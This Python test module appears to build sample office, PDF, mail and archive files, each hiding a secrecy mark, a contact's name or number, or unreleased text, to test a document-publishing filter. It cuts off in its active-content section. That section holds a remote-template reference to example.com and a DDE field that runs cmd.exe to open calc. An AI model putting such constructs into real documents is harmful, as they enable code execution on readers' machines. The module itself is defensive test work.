"""A third lot of carriers, written from the issue, the promises and the pages for staff alone, before a look at what reads documents.

Each is a file as it comes over a clerk's desk, with one thing in it that must not be published. How many were caught at
first sight stands in `docs/developers/security.md`; what was missed then was mended in general, so the lot is no longer unseen.
"""

import base64
import gzip
import io
import struct
import tarfile
import unicodedata
from collections.abc import Callable, Iterator, Sequence
from email.message import EmailMessage
from pathlib import PurePosixPath

import pikepdf
from carriers import Carrier, Secrets
from desk_packages import (
    OPENDOCUMENT,
    PLAIN,
    A,
    P,
    R,
    S,
    W,
    annotated,
    cell,
    docx,
    opendocument,
    paragraph,
    pdf,
    png,
    pptx,
    run,
    saved,
    shape,
    slide,
    typeset,
    xlsx,
    zipped,
)
from pikepdf import Array, Dictionary, Name, String

from phonghop.portal.file_kinds import FORMATS

KINDS = ("mark", "number", "name", "held", "active")
NAME = "Lò Thị Hạnh Nguyên"
"""An internal contact's."""
NUMBER = "0900412758"
"""The same contact's."""
HELD_TITLE = "Đề án sắp xếp các trạm y tế lưu động vùng lòng hồ"
"""Of a document that waits for its hour, in the same meeting as what is published."""
HELD_WORDS = (
    "Mỗi trạm lưu động phụ trách từ bốn đến sáu bản ven hồ, đi bằng thuyền máy hai chuyến một tuần, mùa nước cạn thì dùng xe bán tải; "
    "bác sĩ của trung tâm y tế khu vực luân phiên mỗi tháng một người, hưởng phụ cấp lưu động bằng một phần tư mức lương hiện hưởng và "
    "được bố trí chỗ nghỉ tại nhà văn hóa bản."
)
"""From the middle of that document."""
HELD = (
    HELD_TITLE,
    "Căn cứ Luật Khám bệnh, chữa bệnh; theo đề nghị của Giám đốc Sở Y tế, Ủy ban nhân dân tỉnh trình Hội đồng nhân dân tỉnh đề án này.",
    "Vùng lòng hồ có ba mươi hai bản, đường bộ tới được mười bảy; người dân khám bệnh phải đi trung bình hai giờ bằng thuyền nhỏ.",
    HELD_WORDS,
    "Kinh phí năm đầu do ngân sách tỉnh bảo đảm, từ năm thứ hai chuyển về dự toán của trung tâm y tế khu vực theo số lượt khám thực tế.",
    "Đề nghị Hội đồng nhân dân tỉnh xem xét, thông qua để triển khai từ quý sau, giao Thường trực Hội đồng nhân dân giám sát việc thực hiện.",
)
"""All that it says, a paragraph each."""
DESK_SECRETS = Secrets(NAME, NUMBER, HELD_TITLE, HELD)

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml"
SLIDES = "application/vnd.openxmlformats-officedocument.presentationml"


def in_header(contents: str) -> bytes:
    """Return a document of Word's with a header."""
    return docx(
        "",
        {
            "word/header2.xml": (
                f"{WORD}.header+xml",
                f'<w:hdr {W} {R} xmlns:v="urn:schemas-microsoft-com:vml">{contents}</w:hdr>',
            )
        },
        [("word/document.xml", "header", "header2.xml")],
    )


def properties(core: str = "", app: str = "", custom: str = "") -> bytes:
    """Return a document of Word's with properties."""
    return docx(
        "",
        {
            "docProps/core.xml": (
                "application/vnd.openxmlformats-package.core-properties+xml",
                (
                    '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
                    f'xmlns:dc="http://purl.org/dc/elements/1.1/">{core}</cp:coreProperties>'
                ),
            ),
            "docProps/app.xml": (
                "application/vnd.openxmlformats-officedocument.extended-properties+xml",
                f'<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">{app}</Properties>',
            ),
            "docProps/custom.xml": (
                "application/vnd.openxmlformats-officedocument.custom-properties+xml",
                (
                    '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" '
                    f'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">{custom}</Properties>'
                ),
            ),
        },
        [
            (
                "",
                "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties",
                "docProps/core.xml",
            ),
            ("", "extended-properties", "docProps/app.xml"),
            ("", "custom-properties", "docProps/custom.xml"),
        ],
    )


def field(*instruction: str, shows: str = "") -> str:
    """Return a field of Word's, its instruction in as many runs as are given."""

    def mark(kind: str) -> str:
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

    code = "".join(
        f'<w:r><w:instrText xml:space="preserve">{part}</w:instrText></w:r>' for part in instruction
    )
    return f"<w:p>{mark('begin')}{code}{mark('separate')}{run(shows)}{mark('end')}</w:p>"


def letter(
    subject: str = "Về việc chuẩn bị hội nghị", body: str = "Kính gửi các phòng.", **headers: str
) -> EmailMessage:
    """Return a mail."""
    mail = EmailMessage()
    mail["From"] = headers.pop("sender", "vanthu@example.vn")
    mail["To"] = "phongtonghop@example.vn"
    mail["Subject"] = subject
    for name, value in headers.items():
        mail[name.replace("_", "-")] = value
    mail.set_content(body, cte="base64")
    return mail


def pdf_with(change: Callable[[pikepdf.Pdf], object], source: str = "") -> bytes:
    """Return a PDF of real text after a change."""
    document = pdf(source) if source else pdf()
    change(document)
    return saved(document)


def root(**entries: object) -> Callable[[pikepdf.Pdf], object]:
    """Return a change that puts entries into the catalogue."""

    def change(document: pikepdf.Pdf) -> None:
        for name, value in entries.items():
            document.Root[f"/{name}"] = value  # type: ignore[call-overload]

    return change


def marks() -> Iterator[tuple[str, str, bytes]]:
    """Yield what bears a secrecy mark."""
    yield "header of even pages, each letter a run", "bc.docx", in_header(paragraph("M", "Ậ", "T"))
    yield (
        "corner of a table, nested twice",
        "bc.docx",
        docx(
            f"<w:tbl><w:tr><w:tc><w:tbl><w:tr><w:tc>{paragraph('TỐI')}{paragraph('MẬT')}</w:tc></w:tr></w:tbl>{PLAIN}</w:tc></w:tr></w:tbl>"
        ),
    )
    yield (
        "text box of a newer Word",
        "bc.docx",
        docx(
            '<w:p><w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wp:anchor><a:graphic><a:graphicData><wps:wsp><wps:txbx>'
            f"<w:txbxContent>{paragraph('TUYỆT MẬT')}</w:txbxContent></wps:txbx></wps:wsp></a:graphicData></a:graphic></wp:anchor></w:drawing>"
            "</mc:Choice></mc:AlternateContent></w:r></w:p>"
        ),
    )
    yield (
        "WordArt behind the page",
        "bc.docx",
        in_header(
            '<w:p><w:r><w:pict><v:shape><v:textpath style="font-family:&quot;Times&quot;" string="TỐI MẬT"/></v:shape></w:pict></w:r></w:p>'
        ),
    )
    yield (
        "chosen in a drop-down list",
        "bc.docx",
        docx(
            "<w:p>"
            + run("Độ mật: ")
            + '<w:sdt><w:sdtPr><w:dropDownList><w:listItem w:displayText="Thường" w:value="0"/></w:dropDownList></w:sdtPr>'
            f"<w:sdtContent>{run('Tối mật')}</w:sdtContent></w:sdt></w:p>"
        ),
    )
    yield (
        "status among the properties",
        "bc.docx",
        properties(core="<cp:contentStatus>MẬT</cp:contentStatus>"),
    )
    yield (
        "property of the office's own",
        "bc.docx",
        properties(
            custom='<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="Độ mật"><vt:lpwstr>Mật</vt:lpwstr></property>'
        ),
    )
    yield (
        "words of SmartArt",
        "bc.docx",
        docx(
            "",
            {
                "word/diagrams/data1.xml": (
                    "application/vnd.openxmlformats-officedocument.drawingml.diagramData+xml",
                    (
                        f'<dgm:dataModel xmlns:dgm="http://schemas.openxmlformats.org/drawingml/2006/diagram" {A}><dgm:ptLst><dgm:pt><dgm:t>'
                        "<a:p><a:r><a:t>TUYỆT MẬT</a:t></a:r></a:p></dgm:t></dgm:pt></dgm:ptLst></dgm:dataModel>"
                    ),
                )
            },
            [("word/document.xml", "diagramData", "diagrams/data1.xml")],
        ),
    )
    yield (
        "title of a chart",
        "bc.docx",
        docx(
            "",
            {
                "word/charts/chart1.xml": (
                    "application/vnd.openxmlformats-officedocument.drawingml.chart+xml",
                    (
                        f'<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" {A}><c:chart><c:title><c:tx><c:rich><a:p>'
                        "<a:r><a:t>Biểu đồ 1 (MẬT)</a:t></a:r></a:p></c:rich></c:tx></c:title></c:chart></c:chartSpace>"
                    ),
                )
            },
            [("word/document.xml", "chart", "charts/chart1.xml")],
        ),
    )
    yield (
        "workbook embedded in a report",
        "bc.docx",
        docx(
            "",
            {"word/embeddings/Microsoft_Excel_Sheet1.xlsx": (f"{SHEET}.sheet", xlsx(cell("Tài liệu MẬT")))},
            [("word/document.xml", "package", "embeddings/Microsoft_Excel_Sheet1.xlsx")],
        ),
    )
    yield (
        "page taken in whole (altChunk)",
        "bc.docx",
        docx(
            '<w:altChunk r:id="rId1"/>',
            {"word/afchunk.htm": ("text/html", "<html><body><p>T&#7888;I M&#7852;T</p></body></html>")},
            [("word/document.xml", "aFChunk", "afchunk.htm")],
        ),
    )
    yield (
        "font of the nineties (TCVN3)",
        "bc.docx",
        docx(paragraph("mËt", properties='<w:rFonts w:ascii=".VnTimeH" w:hAnsi=".VnTimeH"/>')),
    )
    yield (
        "font of the nineties (VNI)",
        "bc.docx",
        docx(paragraph("TOÁI MAÄT", properties='<w:rFonts w:ascii="VNI-Times" w:hAnsi="VNI-Times"/>')),
    )
    yield "formula of Word's", "bc.docx", docx("<w:p><m:oMath><m:r><m:t>MẬT</m:t></m:r></m:oMath></w:p>")
    yield "small letters shown as capitals", "bc.docx", docx(paragraph("tối mật", properties="<w:caps/>"))
    yield (
        "header of a printed sheet, after its font size",
        "b.xlsx",
        xlsx(
            cell("Dự toán"),
            after='<headerFooter><oddHeader>&amp;R&amp;"Times New Roman,Bold"&amp;14MẬT</oddHeader></headerFooter>',
        ),
    )
    yield (
        "header of a printed sheet, after its colour",
        "b.xlsx",
        xlsx(
            cell("Dự toán"),
            after="<headerFooter><evenFooter>&amp;C&amp;KFF0000TỐI MẬT</evenFooter></headerFooter>",
        ),
    )
    yield "name of a sheet", "b.xlsx", xlsx(cell("Dự toán"), sheet="MẬT")
    yield (
        "comment of a thread",
        "b.xlsx",
        xlsx(
            cell("Dự toán"),
            {
                "xl/threadedComments/threadedComment1.xml": (
                    "application/vnd.ms-excel.threadedcomments+xml",
                    (
                        '<ThreadedComments xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments"><threadedComment ref="A1">'
                        "<text>Tài liệu này TUYỆT MẬT</text></threadedComment></ThreadedComments>"
                    ),
                )
            },
        ),
    )
    yield (
        "words in parts in one cell",
        "b.xlsx",
        xlsx('<row><c t="inlineStr"><is><r><t>TỐI M</t></r><r><t>ẬT</t></r></is></c></row>'),
    )
    yield (
        "note that appears at a cell",
        "b.xlsx",
        xlsx(
            cell("Dự toán"),
            after='<dataValidations><dataValidation sqref="A1" promptTitle="Lưu ý" '
            'prompt="Tài liệu MẬT, không sao chụp"/></dataValidations>',
        ),
    )
    yield (
        "format of numbers that shows it",
        "b.xlsx",
        xlsx(
            '<row><c s="1"><v>12</v></c></row>',
            {
                "xl/styles.xml": (
                    f"{SHEET}.styles+xml",
                    f'<styleSheet {S}><numFmts><numFmt numFmtId="164" formatCode="&quot;MẬT &quot;0"/></numFmts></styleSheet>',
                )
            },
            [("xl/workbook.xml", "styles", "styles.xml")],
        ),
    )
    yield (
        "remembered result of a formula",
        "b.xlsx",
        xlsx('<row><c t="str"><f>"TỐI "&amp;"MẬT"</f><v>TỐI MẬT</v></c></row>'),
    )
    yield (
        "master of all slides",
        "t.pptx",
        pptx(
            shape("Giao ban"),
            {
                "ppt/slideMasters/slideMaster1.xml": (
                    f"{SLIDES}.slideMaster+xml",
                    slide(shape("MẬT"), "sldMaster"),
                )
            },
            [("ppt/presentation.xml", "slideMaster", "slideMasters/slideMaster1.xml")],
        ),
    )
    yield (
        "name of a section of slides",
        "t.pptx",
        pptx(
            shape("Giao ban"),
            {
                "ppt/tags/tag1.xml": (
                    f"{SLIDES}.tags+xml",
                    f'<p:tagLst {P}><p:tag name="DO_MAT" val="TỐI MẬT"/></p:tagLst>',
                )
            },
            [("ppt/presentation.xml", "tags", "tags/tag1.xml")],
        ),
    )
    yield "words about a picture", "t.pptx", pptx(shape("Giao ban", "Dấu TỐI MẬT màu đỏ"))
    yield (
        "header of a LibreOffice text",
        "bc.odt",
        opendocument(
            "text",
            "<text:p>Báo cáo</text:p>",
            {
                "styles.xml": f'<office:document-styles {OPENDOCUMENT}><office:master-styles><style:master-page style:name="Standard"><style:header><text:p>'
                "TỐI<text:s/>MẬT</text:p></style:header></style:master-page></office:master-styles></office:document-styles>"
            },
        ),
    )
    yield (
        "one letter of it in another style",
        "b.ods",
        opendocument(
            "spreadsheet",
            "<table:table><table:table-row><table:table-cell><text:p><text:span>M</text:span>ẬT</text:p></table:table-cell></table:table-row></table:table>",
        ),
    )
    yield (
        "rich text, by numbers of letters",
        "bc.rtf",
        rb"{\rtf1\ansi\deff0 B\u225?o c\u225?o\par {\header\pard\b T\u7888?I M\u7852?T\par}}",
    )
    yield "rich text of Windows-1258", "bc.rtf", b"{\\rtf1\\ansi\\ansicpg1258 M\\'c2\\'f2T\\par}"
    yield "stamp whose words are in its appearance alone", "bc.pdf", pdf_with(stamp_of_appearance)
    yield (
        "note with rich words",
        "bc.pdf",
        annotated(
            Subtype=Name.FreeText,
            DA=String("/Helv 12 Tf"),
            RC=String(
                '<?xml version="1.0"?><body xmlns="http://www.w3.org/1999/xhtml"><p>T<b>ỐI M</b>ẬT</p></body>'
            ),
        ),
    )
    yield (
        "label of pages",
        "bc.pdf",
        pdf_with(root(PageLabels=Dictionary(Nums=Array([0, Dictionary(S=Name.D, P=String("MẬT - "))])))),
    )
    yield "name of a layer", "bc.pdf", pdf_with(layer)
    yield (
        "words to be read aloud in place of a drawing",
        "bc.pdf",
        pdf_with(
            root(
                StructTreeRoot=Dictionary(
                    Type=Name.StructTreeRoot,
                    K=Dictionary(Type=Name.StructElem, S=Name.Figure, Alt=String("Dấu TUYỆT MẬT")),
                )
            )
        ),
    )
    yield (
        "rotated over the page, each letter apart",
        "bc.pdf",
        typeset(
            "Báo cáo tình hình.\n#place(center + horizon, rotate(-45deg, text(60pt, fill: red.lighten(70%))[M Ậ T]))"
        ),
    )
    yield (
        "letters below each other in the margin",
        "bc.pdf",
        typeset("Báo cáo tình hình.\n#place(right, [T\\ U\\ Y\\ Ệ\\ T\\ \\ M\\ Ậ\\ T])"),
    )
    yield (
        "drawn by a page's style",
        "p.html",
        '<html><style>h1::before{content:"TỐI MẬT"}</style><h1></h1></html>'.encode(),
    )
    yield (
        "letters of a drawing",
        "s.svg",
        '<svg xmlns="http://www.w3.org/2000/svg"><text><tspan>M</tspan><tspan>Ậ</tspan><tspan>T</tspan></text></svg>'.encode(),
    )
    yield (
        "subject of a mail, in two encoded words",
        "thu.eml",
        (
            b"From: vanthu@example.vn\r\nSubject: =?UTF-8?B?"
            + base64.b64encode("TỐI ".encode())
            + b"?=\r\n =?UTF-8?B?"
            + base64.b64encode("MẬT".encode())
            + b"?=\r\n\r\nx\r\n"
        ),
    )
    yield "document attached to a mail", "thu.eml", mail_with_attachment()
    yield (
        "text of Notepad's, no sign of its encoding",
        "gc.txt",
        "Ghi chép cuộc họp\r\nMẬT\r\n".encode("utf-16-le"),
    )
    yield (
        "text of Windows-1258",
        "gc.txt",
        unicodedata.normalize("NFC", "Ghi chép\r\nM").encode("cp1258", "replace") + b"\xc2\xf2T\r\n",
    )
    yield "comment of an archive", "t.zip", zipped({"bc.txt": "Báo cáo"}, "TỐI MẬT".encode())
    yield "folder in an archive", "t.zip", zipped({"Tài liệu MẬT/bc.txt": "Báo cáo"})
    yield "name of a file in a tar", "t.tar.gz", tar("BC_TỐI_MẬT.txt", b"x")
    yield (
        "words of a picture, packed",
        "a.png",
        png((b"iTXt", b"Description\0\x01\0vi\0\0" + __import__("zlib").compress("MẬT".encode()))),
    )
    yield "name of the file itself", "Bao-cao(TOI-MAT).docx", docx("")
    yield "title of a song's format", "ghi-am.mp3", id3("TIT2", "TUYỆT MẬT")


def stamp_of_appearance(document: pikepdf.Pdf) -> None:
    """Put a page's own letters into a stamp's appearance: the page's fonts write the mark."""
    other = pdf("MẬT")
    page = document.copy_foreign(other.pages[0].as_form_xobject())
    document.pages[0].Annots = Array(
        [
            document.make_indirect(
                Dictionary(
                    Type=Name.Annot, Subtype=Name.Stamp, Rect=[50, 700, 250, 800], AP=Dictionary(N=page), F=4
                )
            )
        ]
    )


def layer(document: pikepdf.Pdf) -> None:
    """Put a layer into the catalogue."""
    group = document.make_indirect(Dictionary(Type=Name.OCG, Name=String("TỐI MẬT")))
    document.Root.OCProperties = Dictionary(OCGs=Array([group]), D=Dictionary(Order=Array([group])))


def mail_with_attachment() -> bytes:
    """Return a mail with a document in it."""
    mail = letter()
    mail.add_attachment(
        docx(paragraph("MẬT")), maintype="application", subtype="octet-stream", filename="bc.docx"
    )
    return mail.as_bytes()


def tar(name: str, contents: bytes) -> bytes:
    """Return a packed tar of one file."""
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w:gz") as archive:
        member = tarfile.TarInfo(name)
        member.size = len(contents)
        archive.addfile(member, io.BytesIO(contents))
    return stream.getvalue()


def id3(frame: str, text: str) -> bytes:
    """Return the head of a sound recording."""
    words = b"\x01" + text.encode("utf-16")
    contents = frame.encode() + struct.pack(">I", len(words)) + b"\0\0" + words
    size = len(contents)
    return (
        b"ID3\x03\0\0"
        + bytes([size >> 21 & 127, size >> 14 & 127, size >> 7 & 127, size & 127])
        + contents
        + b"\xff\xfb\x90\0" * 40
    )


def numbers() -> Iterator[tuple[str, str, bytes]]:
    """Yield what says an internal number."""
    yield (
        "over three cells of a table",
        "ds.docx",
        docx(
            "<w:tbl><w:tr>"
            + "".join(f"<w:tc>{paragraph(part)}</w:tc>" for part in ("0900", "412", "758"))
            + "</w:tr></w:tbl>"
        ),
    )
    yield "link to call", "ds.docx", docx("", {}, [("word/document.xml", "hyperlink", "tel:+84900412758")])
    yield (
        "link to a chat",
        "ds.docx",
        docx("", {}, [("word/document.xml", "hyperlink", "https://zalo.me/84900412758")]),
    )
    yield "letter O for a nought", "ds.docx", docx(paragraph("Trực ban: O900.412.758"))
    yield "hidden words", "ds.docx", docx(paragraph("Di động 0900 412 758", properties="<w:vanish/>"))
    yield (
        "deleted, still tracked",
        "ds.docx",
        docx('<w:p><w:del w:author="x"><w:r><w:delText>0900-412-758</w:delText></w:r></w:del></w:p>'),
    )
    yield (
        "variable of the document",
        "ds.docx",
        docx(
            "",
            {
                "word/settings.xml": (
                    f"{WORD}.settings+xml",
                    f'<w:settings {W}><w:docVars><w:docVar w:name="so" w:val="0900412758"/></w:docVars></w:settings>',
                )
            },
            [("word/document.xml", "settings", "settings.xml")],
        ),
    )
    yield (
        "building block that nobody used",
        "ds.docx",
        docx(
            "",
            {
                "word/glossary/document.xml": (
                    f"{WORD}.document.glossary+xml",
                    (
                        f"<w:glossaryDocument {W}><w:docParts><w:docPart><w:docPartBody>{paragraph('ĐT: 0900.412.758')}"
                        "</w:docPartBody></w:docPart></w:docParts></w:glossaryDocument>"
                    ),
                )
            },
            [("word/document.xml", "glossaryDocument", "glossary/document.xml")],
        ),
    )
    yield (
        "base text and its reading above",
        "ds.docx",
        docx(
            f"<w:p><w:r><w:ruby><w:rt>{run('0900412758')}</w:rt><w:rubyBase>{run('trực ban')}</w:rubyBase></w:ruby></w:r></w:p>"
        ),
    )
    yield "number of a cell, with its country", "ds.xlsx", xlsx("<row><c><v>84900412758</v></c></row>")
    yield "number of a cell, by powers of ten", "ds.xlsx", xlsx("<row><c><v>9.00412758E8</v></c></row>")
    yield (
        "remembered from another workbook",
        "ds.xlsx",
        xlsx(
            cell("Danh sách"),
            {
                "xl/externalLinks/externalLink1.xml": (
                    f"{SHEET}.externalLink+xml",
                    (
                        f'<externalLink {S}><externalBook><sheetDataSet><sheetData><row r="1"><cell r="A1" t="str"><v>0900412758</v></cell>'
                        "</row></sheetData></sheetDataSet></externalBook></externalLink>"
                    ),
                )
            },
            [("xl/workbook.xml", "externalLink", "externalLinks/externalLink1.xml")],
        ),
    )
    yield (
        "remembered by a pivot table",
        "ds.xlsx",
        xlsx(
            cell("Danh sách"),
            {
                "xl/pivotCache/pivotCacheDefinition1.xml": (
                    f"{SHEET}.pivotCacheDefinition+xml",
                    (
                        f'<pivotCacheDefinition {S}><cacheFields><cacheField name="Di động"><sharedItems><s v="0900412758"/>'
                        "</sharedItems></cacheField></cacheFields></pivotCacheDefinition>"
                    ),
                )
            },
            [("xl/workbook.xml", "pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml")],
        ),
    )
    yield (
        "link of a cell, by a formula",
        "ds.xlsx",
        xlsx('<row><c t="str"><f>HYPERLINK("tel:0900412758","Gọi")</f><v>Gọi</v></c></row>'),
    )
    yield (
        "name given to a constant",
        "ds.xlsx",
        xlsx(
            cell("x"),
            book='<definedNames><definedName name="truc_ban">"0900412758"</definedName></definedNames>',
        ),
    )
    yield (
        "click on a shape",
        "t.pptx",
        pptx(
            shape("Liên hệ", click='<a:hlinkClick r:id="rId1"/>'),
            {},
            [("ppt/slides/slide1.xml", "hyperlink", "https://wa.me/84900412758")],
        ),
    )
    yield (
        "notes below a slide",
        "t.pptx",
        pptx(
            shape("Liên hệ"),
            {
                "ppt/notesSlides/notesSlide1.xml": (
                    f"{SLIDES}.notesSlide+xml",
                    slide(shape("gọi 0900 412 758 trước 7 giờ"), "notes"),
                )
            },
            [("ppt/slides/slide1.xml", "notesSlide", "../notesSlides/notesSlide1.xml")],
        ),
    )
    yield (
        "value of a LibreOffice cell",
        "ds.ods",
        opendocument(
            "spreadsheet",
            '<table:table><table:table-row><table:table-cell office:value-type="float" office:value="900412758"><text:p>9E+08</text:p>'
            "</table:table-cell></table:table-row></table:table>",
        ),
    )
    yield (
        "link of a PDF",
        "ds.pdf",
        annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("tel:0900.412.758"))),
    )
    yield (
        "field of a form, its default",
        "ds.pdf",
        annotated(Subtype=Name.Widget, FT=Name.Tx, T=String("dt"), DV=String("0900412758")),
    )
    yield (
        "over the end of a line",
        "ds.pdf",
        typeset("#set page(width: 8cm)\nĐầu mối: 0900.412.-\\\n758 (trực cả ngày nghỉ)"),
    )
    yield (
        "own entry of a PDF's properties",
        "ds.pdf",
        pdf_with(lambda document: document.docinfo.__setitem__("/SoDienThoai", "0900 412 758")),
    )
    yield (
        "card of an address book",
        "dm.vcf",
        b"BEGIN:VCARD\r\nVERSION:3.0\r\nN:A\r\nTEL;TYPE=CELL:+84 900 412 758\r\nEND:VCARD\r\n",
    )
    yield (
        "folded line of a calendar",
        "lich.ics",
        b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nDESCRIPTION:Lien he 09004\r\n 12758\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
    )
    yield "column that lost its nought", "ds.csv", "STT,Đơn vị,Di động\n1,Văn phòng,900412758\n".encode()
    yield "attribute of a page", "p.html", b'<a href="sms:+84900412758" data-id="1">Nhan tin</a>'
    yield "escaped in data", "d.json", b'{"phone": "\\u0030\\u0039\\u0030\\u0030412758"}'
    yield (
        "signature of a mail, written by quoted signs",
        "thu.eml",
        (
            b"From: a@example.vn\r\nContent-Transfer-Encoding: quoted-printable\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n=C4=90T: 0900=2E412=\r\n.758\r\n"
        ),
    )
    yield "comment of a picture", "a.jpg", b"\xff\xd8\xff\xfe\x00\x18Goi 0900 412 758 nhe..\xff\xd9"


def names() -> Iterator[tuple[str, str, bytes]]:
    """Yield what says an internal name."""
    yield "in capitals, over two runs", "ds.docx", docx(paragraph("LÒ THỊ ", "HẠNH NGUYÊN"))
    yield (
        "family name and given name in two columns",
        "ds.docx",
        docx(
            f"<w:tbl><w:tr><w:tc>{paragraph('Lò Thị Hạnh')}</w:tc><w:tc>{paragraph('Nguyên')}</w:tc></w:tr></w:tbl>"
        ),
    )
    yield (
        "who commented",
        "ds.docx",
        docx(
            "",
            {
                "word/people.xml": (
                    "application/vnd.openxmlformats-officedocument.wordprocessingml.people+xml",
                    f'<w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"><w15:person w15:author="{NAME}"/></w15:people>',
                )
            },
            [
                (
                    "word/document.xml",
                    "http://schemas.microsoft.com/office/2011/relationships/people",
                    "people.xml",
                )
            ],
        ),
    )
    yield (
        "who formatted a paragraph",
        "ds.docx",
        docx(f'<w:p><w:pPr><w:pPrChange w:author="{NAME}"><w:pPr/></w:pPrChange></w:pPr>{run("x")}</w:p>'),
    )
    yield "who saved it last", "ds.docx", properties(core=f"<cp:lastModifiedBy>{NAME}</cp:lastModifiedBy>")
    yield "manager among the properties", "ds.docx", properties(app=f"<Manager>{NAME}</Manager>")
    yield (
        "person of a threaded comment",
        "ds.xlsx",
        xlsx(
            cell("x"),
            {
                "xl/persons/person.xml": (
                    "application/vnd.ms-excel.person+xml",
                    f'<personList xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments"><person displayName="{NAME}"/></personList>',
                )
            },
        ),
    )
    yield (
        "authors of slides' comments",
        "t.pptx",
        pptx(
            shape("x"),
            {
                "ppt/commentAuthors.xml": (
                    f"{SLIDES}.commentAuthors+xml",
                    f'<p:cmAuthorLst {P}><p:cmAuthor id="0" name="{NAME}" initials="N"/></p:cmAuthorLst>',
                )
            },
            [("ppt/presentation.xml", "commentAuthors", "commentAuthors.xml")],
        ),
    )
    yield (
        "who wrote a note",
        "ds.pdf",
        annotated(Subtype=Name.Text, T=String(NAME), Contents=String("đã xem")),
    )
    yield (
        "who signed",
        "ds.pdf",
        annotated(
            Subtype=Name.Widget,
            FT=Name.Sig,
            T=String("ky"),
            V=Dictionary(
                Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), Name=String(NAME), Contents=b"\0" * 16
            ),
        ),
    )
    yield (
        "letters taken apart (macOS)",
        "ds.txt",
        unicodedata.normalize("NFD", f"Đầu mối: đ/c {NAME}").encode(),
    )
    yield (
        "without marks, sender of a mail",
        "thu.eml",
        letter(sender="Lo Thi Hanh Nguyen <van.thu@example.vn>").as_bytes(),
    )
    yield (
        "invited in a calendar",
        "lich.ics",
        (
            f"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTENDEE;CN={NAME}:mailto:a@example.vn\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
        ).encode(),
    )
    yield "name of a file in an archive", "t.zip", zipped({"lo-thi-hanh-nguyen.txt": "x"})
    yield "name of the file", "bao-cao-lo-thi-hanh-nguyen.docx", docx("")
    yield "artist of a photograph", "a.png", png((b"tEXt", b"Author\0Lo Thi Hanh Nguyen"))
    yield (
        "creator of a LibreOffice text",
        "ds.odt",
        opendocument(
            "text",
            "<text:p>x</text:p>",
            {
                "meta.xml": f"<office:document-meta {OPENDOCUMENT}><office:meta><dc:creator>{NAME}</dc:creator></office:meta></office:document-meta>"
            },
        ),
    )


def held_words() -> Iterator[tuple[str, str, bytes]]:
    """Yield what says words of a document that waits for its hour."""
    yield "in a report", "bc.docx", docx(PLAIN + paragraph(HELD_WORDS) + PLAIN)
    yield (
        "in capitals, without marks",
        "bc.txt",
        "".join(
            sign
            for sign in unicodedata.normalize("NFD", HELD_WORDS.replace("đ", "d"))
            if not unicodedata.combining(sign)
        )
        .upper()
        .encode(),
    )
    yield (
        "below a slide",
        "t.pptx",
        pptx(
            shape("Y tế"),
            {
                "ppt/notesSlides/notesSlide1.xml": (
                    f"{SLIDES}.notesSlide+xml",
                    slide(shape(HELD_WORDS), "notes"),
                )
            },
            [("ppt/slides/slide1.xml", "notesSlide", "../notesSlides/notesSlide1.xml")],
        ),
    )
    yield (
        "in narrow lines of a PDF",
        "bc.pdf",
        typeset(f'#set page(width: 7cm, height: auto)\n#set text(lang: "vi")\n{HELD_WORDS}'),
    )
    yield (
        "in a comment of a workbook",
        "b.xlsx",
        xlsx(
            cell("x"),
            {
                "xl/comments1.xml": (
                    f"{SHEET}.comments+xml",
                    (
                        f'<comments {S}><authors><author/></authors><commentList><comment ref="A1"><text><r><t>{HELD_WORDS}</t></r></text></comment>'
                        "</commentList></comments>"
                    ),
                )
            },
            [("xl/worksheets/sheet1.xml", "comments", "../comments1.xml")],
        ),
    )
    yield (
        "deleted, still in a LibreOffice text",
        "bc.odt",
        opendocument(
            "text",
            f"<text:tracked-changes><text:changed-region><text:deletion><text:p>{HELD_WORDS}</text:p></text:deletion></text:changed-region></text:tracked-changes>",
        ),
    )
    yield (
        "sentence by sentence in cells",
        "b.xlsx",
        xlsx("".join(cell(part) for part in HELD_WORDS.replace(";", ",").split(", "))),
    )
    yield (
        "in an archive in an archive",
        "t.zip",
        zipped({"a.zip": zipped({"bc.docx": docx(paragraph(HELD_WORDS))})}),
    )
    yield "title, in a programme", "ct.docx", docx(paragraph(f"8 giờ 30: Trình bày {HELD_TITLE}."))
    yield (
        "title, as the title of a PDF",
        "ct.pdf",
        pdf_with(lambda document: document.docinfo.__setitem__("/Title", HELD_TITLE)),
    )
    yield "the document itself, as text", "toan-van.txt", "\n".join(HELD).encode()
    yield "the document itself, in a mail", "thu.eml", letter(body="\n".join(HELD)).as_bytes()


def active_content() -> Iterator[tuple[str, str, bytes]]:
    """Yield what runs something or makes a program fetch something."""
    yield (
        "template from elsewhere",
        "bc.docx",
        docx(
            "",
            {
                "word/settings.xml": (
                    f"{WORD}.settings+xml",
                    f'<w:settings {W} {R}><w:attachedTemplate r:id="rId1"/></w:settings>',
                )
            },
            [
                ("word/document.xml", "settings", "settings.xml"),
                ("word/settings.xml", "attachedTemplate", "http://example.com/a.dotm"),
            ],
        ),
    )
    yield (
        "command in a field, in pieces",
        "bc.docx",
        docx(field(" DDE", "AUTO c:\\\\windows\\\\system32\\\\cmd.exe", ' "/k calc" ')),
    )
    yield (
